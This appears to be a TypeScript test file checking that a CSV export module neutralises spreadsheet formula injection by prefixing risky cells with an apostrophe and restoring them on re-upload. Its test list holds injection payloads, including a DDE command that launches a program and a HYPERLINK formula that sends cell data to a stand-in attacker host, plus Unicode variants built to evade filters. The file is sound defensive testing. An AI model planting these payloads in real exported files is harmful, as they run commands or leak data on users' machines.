import { parse } from 'csv-parse/sync';
import { BYTE_ORDER_MARK, csvLines, escapeFormula, unescapeFormula } from '../../../lambda-src/domain/list/csv';
import { planned, settings } from '../../lambda-src/functions/plan/harness';

/** Cells that one spreadsheet or another would run. */
const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=1+1\n=2+2',
];

const parsed = (line: string): string[] =>
  parse(line, { bom: true, delimiter: ',', record_delimiter: '\r\n', relax_column_count: true })[0];

test.each(FORMULAS)('a formula in a cell is none in a file of ours: %j', (cell) => {
  const [written] = parsed(csvLines([[cell, 'x']]));
  // What a spreadsheet sees is a text: an apostrophe before anything that could be a formula.
  expect(written.startsWith("'")).toBe(true);
  // And it comes back as it was, once the file is uploaded again.
  expect(unescapeFormula(written)).toBe(cell);
});

test.each(['Ann', '', ' Ann', "'Ann", "O'Hara", 'a=b', 'ann@example.org', '1-2', "'"])(
  'an ordinary cell stays: %j',
  (cell) => {
    expect(escapeFormula(cell)).toBe(cell);
    expect(unescapeFormula(cell)).toBe(cell);
  },
);

test('invalid.csv: formulas in addresses, cells and names of columns are texts, and its rows keep their number', async () => {
  const names = ['email', 'name', '=cmd|x', '＝y'];
  const rows = FORMULAS.map((cell) => ['no address', 'x', cell, cell]);
  const quote = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
  const { invalid } = await planned([names, ...rows].map(quote).join('\n'), {
    settings: settings({ maxInvalidPercent: 100 }),
  });
  const all: string[][] = parse(invalid!, { bom: true, record_delimiter: '\r\n' });
  expect(invalid!.startsWith(BYTE_ORDER_MARK)).toBe(true);
  expect(all).toHaveLength(FORMULAS.length + 1);
  for (const cells of all) for (const cell of cells) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
});
